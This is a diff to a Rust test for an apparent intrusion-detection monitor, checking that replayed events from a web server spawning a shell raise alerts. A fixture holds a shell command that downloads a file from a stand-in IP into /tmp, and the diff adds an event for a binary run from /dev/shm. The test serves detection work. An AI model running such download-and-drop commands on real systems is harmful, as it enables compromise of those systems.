@@ -365,7 +365,14 @@ fn config_check_refuses_what_run_would_refuse() {
 fn replay_runs_recorded_events_through_the_rules() {
     let listen = r#"{"kind":"listen","ts":"2026-01-01T00:00:00Z","proto":"tcp","netns":1,"socket":1,"local":{"addr":"0.0.0.0","port":80},"process":{"pid":100,"comm":"lighttpd","exe":"/usr/sbin/lighttpd","argv":["lighttpd"],"ancestry":[{"pid":1,"exe":"/sbin/init"}]}}"#;
     let shell = r#"{"kind":"exec","ts":"2026-01-01T00:00:05Z","pid":200,"tid":200,"ppid":100,"uid":33,"euid":33,"gid":33,"egid":33,"comm":"sh","cgroup_id":1,"exe":"/bin/busybox","exe_deleted":false,"exe_truncated":false,"argv":["sh","-c","wget http://198.51.100.9/x -O /tmp/x"],"argv_truncated":false,"cwd":"/www","cwd_truncated":false,"stdio":["pipe","pipe","pipe"],"ancestry":[{"pid":100,"exe":"/usr/sbin/lighttpd"},{"pid":1,"exe":"/sbin/init"}]}"#;
-    let file = TempPath::write("events.jsonl", &format!("{listen}\nnot json\n{shell}\n"));
+    // Hand-written, missing most fields of the schema: judged by the
+    // fields it has.
+    let partial =
+        r#"{"kind":"exec","ts":"2026-01-01T00:00:06Z","pid":300,"exe":"/dev/shm/.x","argv":["x"]}"#;
+    let file = TempPath::write(
+        "events.jsonl",
+        &format!("{listen}\nnot json\n{shell}\n{partial}\n"),
+    );
     let out = Command::new(monitor_bin())
         .arg("replay")
         .arg(file.path())
@@ -384,8 +391,14 @@ fn replay_runs_recorded_events_through_the_rules() {
     assert_eq!(a["kind"], "alert");
     assert_eq!(a["process"]["pid"], 200);
     let stderr = String::from_utf8_lossy(&out.stderr);
+    let dropped = alert(&alerts, "EW-PROC-003").expect("run from /dev/shm");
+    assert_eq!(dropped["process"]["pid"], 300);
     assert!(stderr.contains(":2: not a JSON event"), "{stderr}");
-    assert!(stderr.contains("replayed 2 events"), "{stderr}");
+    assert!(stderr.contains("replayed 3 events"), "{stderr}");
+    assert!(
+        stderr.contains("1 events are not of this version's schema"),
+        "{stderr}"
+    );
 }
 
 #[test]
